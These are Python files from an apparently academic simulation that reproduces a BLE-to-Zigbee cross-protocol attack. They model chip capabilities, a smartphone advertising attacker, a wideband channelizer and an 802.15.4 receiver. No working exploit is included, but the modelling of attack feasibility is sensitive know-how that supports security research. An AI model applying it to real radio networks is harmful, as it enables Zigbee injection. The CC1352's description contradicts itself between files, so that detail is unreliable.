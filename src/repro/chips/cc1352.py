"""Texas Instruments CC1352-R1 model.

The paper's second implementation target (§V), chosen precisely because it
offers *fewer* configuration freedoms than the nRF52: we model that as a
whitener that cannot be switched off, forcing the primitives onto the
whitening pre-inversion path of §IV-D (the LFSR "is reversible ... it is
thus possible to build a sequence of bits which, once the transformation
has been applied, corresponds to the PN sequences").  Frequency selection
stays arbitrary — Table III covers all sixteen Zigbee channels on this chip
too.  The CC1352 natively supports 802.15.4, but — like the paper — only
its BLE capabilities are used here.

Its analogue front end is modelled tighter than the nRF52832's (smaller
carrier-frequency error), matching Table III's more stable CC1352 numbers.
"""

from __future__ import annotations

from typing import Optional, Tuple

import numpy as np

from repro.chips.ble_radio import BleRadioPeripheral
from repro.chips.capabilities import ChipCapabilities
from repro.radio.medium import RfMedium

__all__ = ["CC1352R1_CAPABILITIES", "Cc1352R1"]

CC1352R1_CAPABILITIES = ChipCapabilities(
    name="CC1352-R1",
    supports_le_2m=True,
    supports_esb_2m=False,
    arbitrary_frequency=True,
    can_disable_whitening=False,
    can_disable_crc=True,
    raw_radio_access=True,
    cfo_std_hz=8e3,
)


class Cc1352R1(BleRadioPeripheral):
    """A CC1352-R1 LaunchPad, driven through its BLE API only."""

    def __init__(
        self,
        medium: RfMedium,
        name: str = "CC1352-R1",
        position: Tuple[float, float] = (0.0, 0.0),
        tx_power_dbm: float = 0.0,
        rng: Optional[np.random.Generator] = None,
    ):
        super().__init__(
            medium,
            capabilities=CC1352R1_CAPABILITIES,
            name=name,
            position=position,
            tx_power_dbm=tx_power_dbm,
            rng=rng,
        )
