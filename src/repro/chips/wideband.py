"""Wideband band-capture front end (all 16 Zigbee channels at once).

The narrowband testbed tunes one 2 MHz receiver per channel and runs a
Table III cell per tuning.  This front end models the wideband variant:
every frame slot's waveform goes on the air on all channels
simultaneously, is superposed into one band capture spanning
2405–2480 MHz, and the :class:`~repro.phy.channelizer.PolyphaseChannelizer`
splits the capture back into per-channel basebands in a single pass.

Three execution modes share one impairment code path:

* ``mode="spectral"`` (default) — the production sweep.  The band
  capture lives purely in the frequency domain: the slot waveform's
  spectrum is scattered into each channel's window of the wideband
  raster and gathered back per channel, with the channel-selection FIR
  folded into the extraction as zero-phase spectral weights
  (:func:`~repro.phy.channelizer.fir_spectral_weights`).  No wide-rate
  time samples are ever materialised, which is what makes a full
  Table III sweep a handful of tensor ops.
* ``mode="time"`` — the same capture through the real subsystem:
  :func:`~repro.phy.channelizer.compose_band` synthesises wide-rate
  time samples and :meth:`~repro.phy.channelizer.PolyphaseChannelizer.channelize`
  splits them.  Bit-equal to ``spectral`` up to one FFT roundtrip of
  float round-off; the golden wideband vector pins this path.
* ``mode="sequential"`` — no band roundtrip at all: each channel's
  baseband is the (circularly filtered) slot waveform directly.  The
  differential reference: identical random draws, no adjacent-channel
  leakage.

Physics parity with the narrowband medium, by construction:

* per-(channel, slot) carrier-frequency error drawn from the
  transmitter's crystal tolerance, applied at baseband (an in-window
  signal is unaffected by whether the rotation happens before or after
  channel extraction);
* amplitude from the same log-distance path model
  (:class:`~repro.radio.medium.PropagationModel`) with per-capture
  log-normal shadowing;
* thermal noise (scaled to the per-channel rate) and WiFi interferer
  bursts added per channel after channel selection — the standard
  equivalent-baseband simplification;
* the transceiver's 49-tap 1.3 MHz channel-selection FIR, applied as a
  circular convolution whose wrap lands in the slot's zero margins.

Every random draw comes from a dedicated per-channel generator in a
documented order (per chunk: CFO batch, shadowing batch, per-slot WiFi,
noise real batch, noise imaginary batch), so all three modes consume
identical streams and their outcomes are directly comparable.  The
random plan therefore depends on the chunking the caller uses —
``run_table3_wideband``'s default ``chunk_slots`` is part of the
reproducibility contract.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np
from scipy import fft as sp_fft

from repro.dot15d4.channels import channel_frequency_hz
from repro.dsp.filters import fir_lowpass
from repro.experiments.environment import TestbedProfile
from repro.obs import metrics as _current_metrics
from repro.phy.channelizer import (
    PolyphaseChannelizer,
    WidebandGrid,
    compose_band,
    fir_spectral_weights,
    gather_indices,
)
from repro.radio.interference import WifiInterferer
from repro.radio.medium import PropagationModel

__all__ = ["WidebandFrontEnd", "SWEEP_GRID"]

#: FFT worker threads for the batched transforms (bounded: the tensors
#: are small enough that more threads just add scheduling overhead).
_FFT_WORKERS = 2

#: The sweep-tuned raster: 4 Msps per channel (2 samples/chip — still
#: 2× the 2 MHz chip rate) with a 96 Msps notional wideband rate.  The
#: spectral path never materialises wide-rate samples, so the large
#: oversample costs nothing.  Differential tests against the 16 Msps
#: narrowband pipeline use the default grid instead.
SWEEP_GRID = WidebandGrid(channel_rate=4e6, oversample=24)


class WidebandFrontEnd:
    """Compose per-channel transmissions into one band capture and split it.

    Parameters
    ----------
    profile:
        Testbed environment (distance, noise floor, WiFi interferers).
    grid:
        Wideband raster; defaults to the full 16-channel grid at the
        narrowband-compatible 16 Msps.
    channels:
        Zigbee channels simulated (default: the grid's channels).
    seed:
        Root seed; each channel gets an independent spawned generator.
    tx_cfo_std_hz:
        Transmitter crystal tolerance — 10 kHz for the reference
        802.15.4 radio (reception primitive), the diverted chip's value
        for the transmission primitive.
    margin_samples:
        Zero margin placed before and after each slot's waveform: the
        wideband stand-in for the medium's capture margin, and the home
        of the circular filter wrap.
    dtype:
        ``np.complex128`` (default) or ``np.complex64`` — the sweep runs
        single precision; differential tests against the float64
        narrowband pipeline keep double.
    """

    def __init__(
        self,
        profile: Optional[TestbedProfile] = None,
        grid: Optional[WidebandGrid] = None,
        channels: Optional[Sequence[int]] = None,
        seed: int = 0,
        tx_cfo_std_hz: float = 10e3,
        margin_samples: int = 128,
        dtype: np.dtype = np.complex128,
    ):
        self.profile = profile or TestbedProfile()
        self.grid = grid or WidebandGrid()
        self.channels: Tuple[int, ...] = tuple(
            channels if channels is not None else self.grid.channels
        )
        self.tx_cfo_std_hz = tx_cfo_std_hz
        self.margin_samples = margin_samples
        self.dtype = np.dtype(dtype)
        if self.dtype not in (np.complex64, np.complex128):
            raise ValueError("dtype must be complex64 or complex128")
        self.channelizer = PolyphaseChannelizer(self.grid)
        self._taps = fir_lowpass(
            cutoff_hz=2e6 * 0.65,
            sample_rate=self.grid.channel_rate,
            num_taps=49,
        )
        # Deterministic base gain (distance term); shadowing is drawn
        # per (channel, slot) from the channel's own stream below.
        self._base_gain_db = self.profile.tx_power_dbm + PropagationModel(
            exponent=self.profile.path_loss_exponent
        ).path_gain_db((0.0, 0.0), (self.profile.distance_m, 0.0))
        self._interferers = [
            WifiInterferer(
                channel=ch,
                power_dbm=self.profile.wifi_power_dbm,
                duty_cycle=self.profile.wifi_duty_cycle,
            )
            for ch in self.profile.wifi_channels
        ]
        self._rngs: Dict[int, np.random.Generator] = {
            c: np.random.default_rng(
                np.random.SeedSequence(entropy=seed, spawn_key=(c,))
            )
            for c in self.channels
        }
        self._weights_cache: Dict[int, np.ndarray] = {}
        self._overlap_cache: Dict[int, list] = {}
        self.metrics = _current_metrics()

    @property
    def samples_per_chip(self) -> int:
        spc = self.grid.channel_rate / 2e6
        if abs(spc - round(spc)) > 1e-9:
            raise ValueError(
                "channel rate must be an integer multiple of the 2 MHz "
                "chip rate"
            )
        return int(round(spc))

    def _weights(self, n_out: int) -> np.ndarray:
        weights = self._weights_cache.get(n_out)
        if weights is None:
            weights = fir_spectral_weights(self._taps, n_out)
            self._weights_cache[n_out] = weights
        return weights

    # -- capture ------------------------------------------------------------
    def capture_slots(
        self, signals: List[np.ndarray], mode: str = "spectral"
    ) -> np.ndarray:
        """Simulate *signals* (one per frame slot) on every channel at once.

        Returns ``(slots, channels, n_out)`` basebands at
        :attr:`WidebandGrid.channel_rate`, channel-filtered and impaired,
        ready for the batched decoder.  See the module docstring for the
        three modes; all of them draw from identical random streams.
        """
        if not signals:
            raise ValueError("capture_slots needs at least one slot waveform")
        if mode not in ("spectral", "time", "sequential"):
            raise ValueError(f"unknown capture mode {mode!r}")
        num_slots = len(signals)
        margin = self.margin_samples
        longest = max(s.shape[-1] for s in signals)
        n_out = self.grid.pad_length(longest + 2 * margin)
        base = np.zeros((num_slots, n_out), dtype=self.dtype)
        for i, sig in enumerate(signals):
            base[i, margin : margin + sig.shape[-1]] = sig
        weights = self._weights(n_out).astype(
            np.float32 if self.dtype == np.complex64 else np.float64
        )
        if mode == "sequential":
            spectra = sp_fft.fft(base, axis=-1, workers=_FFT_WORKERS)
            filtered = sp_fft.ifft(
                spectra * weights, axis=-1, workers=_FFT_WORKERS
            )
            out = np.repeat(
                filtered[None, :, :], len(self.channels), axis=0
            ).astype(self.dtype)
        elif mode == "spectral":
            out = self._capture_spectral(base, weights, n_out)
        else:
            out = self._capture_time(base, weights, n_out)
        # Internal layout is channel-major (C, S, n) so the per-channel
        # impairment pass works on contiguous blocks.
        self._impair_rows(out, n_out)
        self.metrics.counter("wideband.captures").inc()
        self.metrics.counter("wideband.slots").inc(num_slots)
        return np.swapaxes(out, 0, 1)

    def _overlaps(self, n_out: int) -> list:
        """Cached spectral-window intersections between channel pairs.

        ``(j, k, b_idx, c_idx)`` means channel index ``j``'s gathered
        baseband picks up channel ``k``'s transmission at its own bins
        ``b_idx`` ← ``k``'s baseband bins ``c_idx`` — the
        adjacent-channel leakage a wide-array scatter/gather would
        produce.  Channels whose windows don't overlap on the raster
        (window width ≤ channel spacing) yield no pairs.
        """
        pairs = self._overlap_cache.get(n_out)
        if pairs is None:
            indices = [
                gather_indices(self.grid, c, n_out) for c in self.channels
            ]
            pairs = []
            for j, idx_j in enumerate(indices):
                for k, idx_k in enumerate(indices):
                    if j == k:
                        continue
                    _, b_idx, c_idx = np.intersect1d(
                        idx_j, idx_k, return_indices=True
                    )
                    if b_idx.size:
                        pairs.append((j, k, b_idx, c_idx))
            self._overlap_cache[n_out] = pairs
        return pairs

    def _capture_spectral(
        self, base: np.ndarray, weights: np.ndarray, n_out: int
    ) -> np.ndarray:
        """Frequency-domain compose + split without wide-rate samples.

        Every channel transmits the same slot spectrum, so scattering
        all channels into the wideband raster and gathering each window
        back reduces to: each channel's baseband spectrum = the slot
        spectrum + the overlapping slices of its raster neighbours'
        spectra (adjacent-channel leakage).  Identical sums to the
        wide-array formulation, with no ``oversample × n_out`` arrays.
        """
        spectra = sp_fft.fft(base, axis=-1, workers=_FFT_WORKERS)
        gathered = np.repeat(
            spectra[None, :, :], len(self.channels), axis=0
        )
        for j, _k, b_idx, c_idx in self._overlaps(n_out):
            gathered[j][:, b_idx] += spectra[:, c_idx]
        gathered *= weights
        return sp_fft.ifft(gathered, axis=-1, workers=_FFT_WORKERS).astype(
            self.dtype
        )

    def _capture_time(
        self, base: np.ndarray, weights: np.ndarray, n_out: int
    ) -> np.ndarray:
        """The full time-domain subsystem: compose_band → channelize."""
        wide = compose_band(
            {c: base for c in self.channels}, grid=self.grid, n_out=n_out
        )
        out = self.channelizer.channelize(
            wide, channels=self.channels, spectral_weights=weights
        )
        return np.ascontiguousarray(np.swapaxes(out, 0, 1)).astype(self.dtype)

    def _impair_rows(self, out: np.ndarray, n_out: int) -> None:
        """Apply per-(channel, slot) CFO, path gain, WiFi and noise in place.

        One pass per channel from that channel's dedicated stream, in a
        fixed draw order shared by every capture mode.  *out* is
        channel-major ``(C, S, n_out)``.
        """
        num_slots = out.shape[1]
        rate = self.grid.channel_rate
        real_dtype = np.float32 if self.dtype == np.complex64 else np.float64
        # Per-channel noise power: the profile's floor is defined over
        # its (narrowband) capture bandwidth; scale to this grid's rate.
        noise_power = 10.0 ** (self.profile.noise_floor_dbm / 10.0) * (
            rate / self.profile.sample_rate
        )
        noise_scale = np.sqrt(noise_power / 2.0)
        sigma = self.profile.shadowing_sigma_db
        # CFO rotation via block factoring: e^{iω(kB+j)/fs} =
        # (e^{iωB/fs})^k · e^{iωj/fs}, so the transcendental work is one
        # block of exps plus integer powers of the block step — the rest
        # is a complex outer product.
        block = 512
        n_blocks = -(-n_out // block)
        t_block = np.arange(block) / rate
        powers = np.arange(n_blocks)
        for j, channel in enumerate(self.channels):
            rng = self._rngs[channel]
            cfos = (
                rng.normal(0.0, self.tx_cfo_std_hz, num_slots)
                if self.tx_cfo_std_hz
                else np.zeros(num_slots)
            )
            gains_db = np.full(num_slots, self._base_gain_db)
            if sigma > 0.0:
                gains_db = gains_db - rng.normal(0.0, sigma, num_slots)
            amplitudes = 10.0 ** (gains_db / 20.0)
            omega = 2.0 * np.pi * cfos
            base_rot = np.exp(1j * omega[:, None] * t_block[None, :])
            step = np.exp(1j * omega * (block / rate))
            factors = amplitudes[:, None] * step[:, None] ** powers[None, :]
            rotation = (
                factors[:, :, None].astype(self.dtype)
                * base_rot[:, None, :].astype(self.dtype)
            ).reshape(num_slots, n_blocks * block)[:, :n_out]
            rows = out[j]
            rows *= rotation
            fc = channel_frequency_hz(channel)
            for i in range(num_slots):
                for interferer in self._interferers:
                    burst = interferer.contribution(
                        rx_center_hz=fc,
                        rx_bandwidth_hz=2e6,
                        num_samples=n_out,
                        sample_rate=rate,
                        rng=rng,
                    )
                    if burst.samples.any():
                        rows[i] += burst.samples.astype(self.dtype)
            noise = rng.standard_normal(
                (num_slots, n_out), dtype=real_dtype
            ) * real_dtype(noise_scale)
            rows += noise
            rng.standard_normal((num_slots, n_out), dtype=real_dtype, out=noise)
            rows += 1j * (real_dtype(noise_scale) * noise)
