"""Unrooted Android smartphone model (Scenario A's attacker platform).

The attacker controls a normal app with standard permissions, so the only
reachable surface is the high-level extended-advertising API
(``AdvertisingSetParameters`` and friends).  Consequences modelled here,
mirroring §VI-B:

* no raw radio access — this class deliberately does *not* implement
  :class:`~repro.core.radio_api.LowLevelRadio`;
* whitening and CRC are always on (the controller builds spec-compliant
  packets);
* the secondary advertising channel is chosen by CSA#2, not by the app —
  the attacker can only advertise at the smallest interval and wait for the
  algorithm to land on the BLE channel overlapping the target Zigbee
  channel;
* invalid received frames never reach the host, so the reception primitive
  is impossible ("the received frames including a wrong CRC are dropped at
  the controller level").

Per advertising event the controller sends ADV_EXT_IND on the three primary
channels at LE 1M, then AUX_ADV_IND with the application's advertising data
on the CSA#2 channel at LE 2M.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional, Tuple

import numpy as np

from repro.ble.channels import ADVERTISING_CHANNELS
from repro.ble.csa2 import Csa2Session
from repro.ble.packets import (
    ADVERTISING_ACCESS_ADDRESS,
    Adi,
    AuxPtr,
    ExtendedAdvertisingPdu,
    PhyMode,
)
from repro.chips.ble_radio import BleRadioPeripheral
from repro.chips.capabilities import ChipCapabilities
from repro.radio.medium import RfMedium

__all__ = ["SMARTPHONE_CAPABILITIES", "AdvertisingEvent", "SmartphoneBle"]

SMARTPHONE_CAPABILITIES = ChipCapabilities(
    name="Android smartphone (unrooted)",
    supports_le_2m=True,
    supports_esb_2m=False,
    arbitrary_frequency=False,
    can_disable_whitening=False,
    can_disable_crc=False,
    raw_radio_access=False,
    cfo_std_hz=20e3,
)

#: Smallest extended-advertising interval Android exposes (160 × 0.625 ms).
MIN_ADVERTISING_INTERVAL_S = 0.1
#: Spacing between the per-event primary-channel PDUs.
_PRIMARY_SPACING_S = 400e-6


@dataclass
class AdvertisingEvent:
    """Record of one advertising event (for experiment bookkeeping)."""

    counter: int
    secondary_channel: int
    time: float


class SmartphoneBle:
    """A BLE-5 smartphone exposing only the extended-advertising API."""

    def __init__(
        self,
        medium: RfMedium,
        name: str = "OnePlus 6T",
        position: Tuple[float, float] = (0.0, 0.0),
        tx_power_dbm: float = 0.0,
        rng: Optional[np.random.Generator] = None,
        advertiser_address: bytes = bytes.fromhex("c0ffee123456"),
    ):
        self.capabilities = SMARTPHONE_CAPABILITIES
        self.name = name
        # The controller below is internal: the app API never touches it.
        self._controller = BleRadioPeripheral(
            medium,
            capabilities=ChipCapabilities(
                name=f"{name} controller",
                cfo_std_hz=SMARTPHONE_CAPABILITIES.cfo_std_hz,
            ),
            name=name,
            position=position,
            tx_power_dbm=tx_power_dbm,
            rng=rng,
        )
        self._scheduler = medium.scheduler
        self.advertiser_address = advertiser_address
        self._advertising = False
        self._adv_data = b""
        self._interval_s = MIN_ADVERTISING_INTERVAL_S
        self._csa2 = Csa2Session(ADVERTISING_ACCESS_ADDRESS)
        self._adi = Adi(did=0x123, sid=1)
        self.events: List[AdvertisingEvent] = []
        self._event_callback: Optional[Callable[[AdvertisingEvent], None]] = None

    # ------------------------------------------------------------------
    # The Android-level API surface
    # ------------------------------------------------------------------
    def start_extended_advertising(
        self,
        adv_data: bytes,
        interval_s: float = MIN_ADVERTISING_INTERVAL_S,
        event_callback: Optional[Callable[[AdvertisingEvent], None]] = None,
    ) -> None:
        """Begin extended advertising with LE 1M primary / LE 2M secondary.

        *adv_data* must already be a sequence of AD structures (use
        :func:`repro.ble.packets.manufacturer_data`).
        """
        if len(adv_data) > 245:
            raise ValueError(
                "advertising data exceeds what a single AUX_ADV_IND carries"
            )
        if interval_s < MIN_ADVERTISING_INTERVAL_S:
            raise ValueError(
                f"Android rejects intervals below {MIN_ADVERTISING_INTERVAL_S}s"
            )
        self._adv_data = bytes(adv_data)
        self._interval_s = interval_s
        self._event_callback = event_callback
        if not self._advertising:
            self._advertising = True
            self._scheduler.schedule(0.0, self._advertising_event)

    def stop_advertising(self) -> None:
        self._advertising = False

    def set_advertising_data(self, adv_data: bytes) -> None:
        """Update the advertising data between events."""
        if len(adv_data) > 245:
            raise ValueError("advertising data too long")
        self._adv_data = bytes(adv_data)

    # ------------------------------------------------------------------
    # Controller behaviour
    # ------------------------------------------------------------------
    def _advertising_event(self) -> None:
        if not self._advertising:
            return
        counter, channel = self._csa2.next_channel()
        event = AdvertisingEvent(
            counter=counter, secondary_channel=channel, time=self._scheduler.now
        )
        self.events.append(event)
        aux_delay = _PRIMARY_SPACING_S * len(ADVERTISING_CHANNELS)
        aux_ptr = AuxPtr(
            channel=channel,
            phy=PhyMode.LE_2M,
            offset_usec=int(aux_delay * 1e6),
        )
        ext_ind = ExtendedAdvertisingPdu(
            adi=self._adi, aux_ptr=aux_ptr, adv_mode=0
        ).to_pdu()
        for i, primary in enumerate(ADVERTISING_CHANNELS):
            self._scheduler.schedule(
                i * _PRIMARY_SPACING_S,
                lambda ch=primary: self._controller.transmit_pdu(
                    ext_ind, channel=ch, phy=PhyMode.LE_1M
                ),
            )
        self._scheduler.schedule(aux_delay, lambda: self._transmit_aux(channel))
        if self._event_callback is not None:
            self._event_callback(event)
        self._scheduler.schedule(self._interval_s, self._advertising_event)

    def _transmit_aux(self, channel: int) -> None:
        if not self._advertising:
            return
        aux = ExtendedAdvertisingPdu(
            advertiser_address=self.advertiser_address,
            adi=self._adi,
            adv_mode=0,
            adv_data=self._adv_data,
        )
        self._controller.transmit_pdu(
            aux.to_pdu(), channel=channel, phy=PhyMode.LE_2M
        )

    # -- geometry helpers ---------------------------------------------------
    @property
    def position(self) -> Tuple[float, float]:
        return self._controller.transceiver.position

    @staticmethod
    def aux_data_offset_bytes() -> int:
        """PDU-start → advertising-data offset for the AUX layout above.

        Header (2) + ext-header-length/AdvMode (1) + flags (1) + AdvA (6) +
        ADI (2) = 12 bytes; the manufacturer AD structure adds 2 bytes of
        framing and 2 bytes of company id — the paper's 16-byte padding.
        """
        probe = ExtendedAdvertisingPdu(
            advertiser_address=bytes(6), adi=Adi(), adv_mode=0
        )
        return probe.data_offset_in_pdu()
