"""Native IEEE 802.15.4 transceiver model (AVR RZUSBStick / XBee radio).

The ground-truth end of the paper's benchmarks: a real O-QPSK radio that
spreads PSDUs to chips on TX and, on RX, synchronises on the preamble,
recovers chips (via the MSK equivalence, as low-IF 802.15.4 receivers do),
despreads each 32-chip block by minimum Hamming distance, locates the SFD
and checks the FCS.

Used both as the paper's measurement instrument (§V) and as the radio
inside the XBee network nodes of §VI.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional, Tuple

import numpy as np

from repro.dot15d4.channels import channel_for_frequency, channel_frequency_hz
from repro.dot15d4.fcs import verify_fcs
from repro.dot15d4.frames import MacFrame
from repro.dsp.oqpsk import OqpskDemodulator, OqpskModulator
from repro.dsp.signal import IQSignal
from repro.phy.ieee802154 import (
    CHIPS_PER_SYMBOL,
    MAX_PSDU_SIZE,
    PN_SEQUENCES,
    Ppdu,
    despread_chips,
)
from repro.radio.medium import RfMedium, Transmission
from repro.radio.transceiver import Transceiver

__all__ = ["ReceivedPsdu", "Dot15d4Radio", "RzUsbStick"]


@dataclass
class ReceivedPsdu:
    """A frame as seen by the 802.15.4 receiver."""

    psdu: bytes
    fcs_ok: bool
    channel: int
    timestamp: float
    mean_chip_distance: float

    def to_mac_frame(self, check_fcs: bool = True) -> MacFrame:
        return MacFrame.parse(self.psdu, check_fcs=check_fcs)


PsduHandler = Callable[[ReceivedPsdu], None]

#: Chip-timing sync pattern: two preamble symbols (the ``0000`` PN sequence
#: twice).  Starting the pattern at stream index 32 keeps parity identical
#: to index 0 while acknowledging the correlator never locks on symbol 0.
_SYNC_CHIPS = np.concatenate([PN_SEQUENCES[0], PN_SEQUENCES[0]])
_SYNC_START_INDEX = CHIPS_PER_SYMBOL


class Dot15d4Radio:
    """A native 802.15.4 2.4 GHz radio."""

    def __init__(
        self,
        medium: RfMedium,
        name: str = "802.15.4",
        position: Tuple[float, float] = (0.0, 0.0),
        tx_power_dbm: float = 0.0,
        rng: Optional[np.random.Generator] = None,
        cfo_std_hz: float = 10e3,
        sync_threshold: float = 0.45,
        max_chip_distance: int = 12,
    ):
        self.name = name
        self.rng = rng if rng is not None else medium.derive_rng(name)
        self.transceiver = Transceiver(
            medium,
            name=name,
            position=position,
            bandwidth_hz=2e6,
            tx_power_dbm=tx_power_dbm,
            cfo_std_hz=cfo_std_hz,
            rng=self.rng,
        )
        spc = medium.sample_rate / 2e6
        if abs(spc - round(spc)) > 1e-9:
            raise ValueError("medium sample rate must be a multiple of 2 MHz")
        self._modulator = OqpskModulator(samples_per_chip=int(spc))
        self._demodulator = OqpskDemodulator(samples_per_chip=int(spc))
        self.sync_threshold = sync_threshold
        self.max_chip_distance = max_chip_distance
        self._channel = 11
        self._handler: Optional[PsduHandler] = None
        #: Optional hook ``(kind, duration_s)`` with kind in {"tx", "rx"} —
        #: the attachment point for node energy accounting.
        self.activity_listener: Optional[Callable[[str, float], None]] = None
        self.transceiver.tune(channel_frequency_hz(self._channel))

    # -- configuration ------------------------------------------------------
    def set_channel(self, channel: int) -> None:
        self.transceiver.tune(channel_frequency_hz(channel))
        self._channel = channel

    @property
    def channel(self) -> int:
        return self._channel

    # -- transmit ---------------------------------------------------------------
    def transmit_psdu(self, psdu: bytes) -> Transmission:
        """Spread and send a PSDU (must already include its FCS)."""
        chips = Ppdu(psdu).to_chips()
        signal = self._modulator.modulate(chips)
        if self.activity_listener is not None:
            self.activity_listener("tx", signal.duration)
        return self.transceiver.transmit(signal)

    def transmit_frame(self, frame: MacFrame) -> Transmission:
        return self.transmit_psdu(frame.to_bytes())

    # -- receive -----------------------------------------------------------------
    def start_rx(self, handler: PsduHandler) -> None:
        self._handler = handler
        self.transceiver.start_rx(self._on_capture)

    def stop_rx(self) -> None:
        self._handler = None
        self.transceiver.stop_rx()

    def _on_capture(self, capture: IQSignal, _tx: Transmission) -> None:
        if self._handler is None:
            return
        if self.activity_listener is not None:
            self.activity_listener("rx", capture.duration)
            # The listener may have powered the node down (battery death).
            if self._handler is None:
                return
        psdu = self._decode_capture(capture)
        if psdu is not None:
            self._handler(psdu)

    #: How many times the receiver re-arms its correlator after a sync that
    #: produced no frame (false lock on preamble-like payload content or on
    #: non-802.15.4 bits preceding an embedded frame).
    RESYNC_ATTEMPTS = 4

    def _decode_capture(self, capture: IQSignal) -> Optional[ReceivedPsdu]:
        max_chips = CHIPS_PER_SYMBOL * (10 + 2 * (1 + MAX_PSDU_SIZE))
        search_start = 0
        # Discriminate (and lazily compute power) once; every re-arm
        # reuses the same front-end output.
        front_end = self._demodulator.front_end(capture)
        for _attempt in range(self.RESYNC_ATTEMPTS):
            result = self._demodulator.receive_chips(
                capture,
                sync_chips=_SYNC_CHIPS,
                sync_start_index=_SYNC_START_INDEX,
                max_chips=max_chips,
                threshold=self.sync_threshold,
                search_start=search_start,
                front_end=front_end,
            )
            if result is None:
                return None
            chips, info = result
            decoded = self._decode_chips(chips)
            if decoded is not None:
                return decoded
            # Re-arm one symbol past the failed lock.
            search_start = (
                info.sync.start + CHIPS_PER_SYMBOL * self._demodulator.samples_per_chip
            )
        return None

    def _decode_chips(self, chips: np.ndarray) -> Optional[ReceivedPsdu]:
        symbols, distances = despread_chips(chips)
        sfd_index = Ppdu.find_sfd(symbols)
        if sfd_index is None:
            return None
        ppdu = Ppdu.parse_symbols(symbols[sfd_index:])
        if ppdu is None:
            return None
        frame_symbols = 4 + 2 * len(ppdu.psdu)
        frame_distances = distances[sfd_index : sfd_index + frame_symbols]
        mean_distance = float(np.mean(frame_distances)) if frame_distances else 0.0
        if self.max_chip_distance and mean_distance > self.max_chip_distance:
            return None
        return ReceivedPsdu(
            psdu=ppdu.psdu,
            fcs_ok=verify_fcs(ppdu.psdu),
            channel=self._channel,
            timestamp=self.transceiver.medium.scheduler.now,
            mean_chip_distance=mean_distance,
        )


class RzUsbStick(Dot15d4Radio):
    """The Atmel AVR RZUSBStick — the paper's reference Zigbee instrument."""

    def __init__(
        self,
        medium: RfMedium,
        name: str = "RZUSBStick",
        position: Tuple[float, float] = (0.0, 0.0),
        tx_power_dbm: float = 0.0,
        rng: Optional[np.random.Generator] = None,
    ):
        super().__init__(
            medium,
            name=name,
            position=position,
            tx_power_dbm=tx_power_dbm,
            rng=rng,
            cfo_std_hz=10e3,
        )
