"""Chip capability descriptors.

§IV-D of the paper phrases the attack's feasibility per chip as a set of
radio freedoms; §VI shows how partial capability still allows partial
attacks.  :class:`ChipCapabilities` makes those freedoms explicit and the
radio models enforce them, raising :class:`CapabilityError` where real
hardware/APIs would refuse (or simply not expose) the operation.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.errors import RadioError

__all__ = ["ChipCapabilities", "CapabilityError"]


class CapabilityError(RadioError):
    """The chip (or its exposed API) cannot perform the requested operation.

    This is the dedicated exception :class:`~repro.core.radio_api.LowLevelRadio`
    implementations raise when a register-level operation is unavailable;
    the WazaBee primitives catch exactly this (and nothing broader) when
    probing optional features such as whitening control.
    """


@dataclass(frozen=True)
class ChipCapabilities:
    """Radio freedoms and analogue quality of a BLE chip model.

    Attributes
    ----------
    name:
        Marketing name, used in experiment output.
    supports_le_2m:
        Implements the Bluetooth 5 LE 2M PHY (requirement 1 of §IV-D).
    supports_esb_2m:
        Proprietary Enhanced ShockBurst 2 Mbit/s mode, usable as an LE 2M
        substitute on pre-BLE5 Nordic chips (Scenario B).
    arbitrary_frequency:
        Can tune any 2.4 GHz frequency (else restricted to the BLE grid —
        only Table II's eight common channels are reachable).
    can_disable_whitening:
        Whitening can be switched off (else TX must pre-invert it).
    can_disable_crc:
        Hardware CRC generation/checking can be switched off (needed by
        both primitives).
    raw_radio_access:
        Register-level control is available at all (false for the unrooted
        smartphone: only the HCI/advertising API is exposed).
    cfo_std_hz:
        Per-transmission carrier-frequency error (crystal quality).
    esb_snr_cap_db:
        Effective SNR ceiling of the ESB fallback receive chain — it was
        never meant to demodulate foreign waveforms, and the paper notes
        "a direct impact on the reception quality" (§VI-C).
    """

    name: str
    supports_le_2m: bool = True
    supports_esb_2m: bool = False
    arbitrary_frequency: bool = True
    can_disable_whitening: bool = True
    can_disable_crc: bool = True
    raw_radio_access: bool = True
    cfo_std_hz: float = 0.0
    esb_snr_cap_db: float = 14.0

    def supports_2mbps(self) -> bool:
        return self.supports_le_2m or self.supports_esb_2m
