"""Nordic Semiconductor nRF52832 model.

The paper's first proof-of-concept target (§V): "great flexibility in the
configuration of the embedded radio component" — arbitrary 2.4 GHz tuning
via the FREQUENCY register, whitening and CRC fully configurable, LE 2M
supported.  Its radio API descends from the nRF51's, famously diverted by
the BLE offensive-tooling community (BTLEJack, radiobit).

Analogue-wise we give it a looser crystal than the TI part; Table III's
slightly lower success rates for the nRF52832 fall out of that.
"""

from __future__ import annotations

from typing import Optional, Tuple

import numpy as np

from repro.chips.ble_radio import BleRadioPeripheral
from repro.chips.capabilities import ChipCapabilities
from repro.radio.medium import RfMedium

__all__ = ["NRF52832_CAPABILITIES", "Nrf52832"]

NRF52832_CAPABILITIES = ChipCapabilities(
    name="nRF52832",
    supports_le_2m=True,
    supports_esb_2m=True,
    arbitrary_frequency=True,
    can_disable_whitening=True,
    can_disable_crc=True,
    raw_radio_access=True,
    cfo_std_hz=30e3,
)


class Nrf52832(BleRadioPeripheral):
    """An nRF52832 development board (e.g. the Adafruit Feather nRF52)."""

    def __init__(
        self,
        medium: RfMedium,
        name: str = "nRF52832",
        position: Tuple[float, float] = (0.0, 0.0),
        tx_power_dbm: float = 0.0,
        rng: Optional[np.random.Generator] = None,
    ):
        super().__init__(
            medium,
            capabilities=NRF52832_CAPABILITIES,
            name=name,
            position=position,
            tx_power_dbm=tx_power_dbm,
            rng=rng,
        )
