"""Capability-gated models of the paper's hardware.

Every device the paper uses is modelled with exactly the radio freedoms and
limitations the paper relies on:

* :class:`~repro.chips.nrf52832.Nrf52832` — flexible nRF52 radio: arbitrary
  2.4 GHz tuning, whitening/CRC disable, LE 2M (§V, first implementation);
* :class:`~repro.chips.cc1352.Cc1352R1` — the TI chip: LE 2M and the needed
  switches, but frequency selection restricted to the BLE channel grid
  (the paper used it to show the attack works on a less configurable chip);
* :class:`~repro.chips.nrf51822.Nrf51822` — no LE 2M; falls back to the
  Enhanced ShockBurst 2 Mbit/s mode at a sensitivity penalty (Scenario B's
  Gablys Lite tracker);
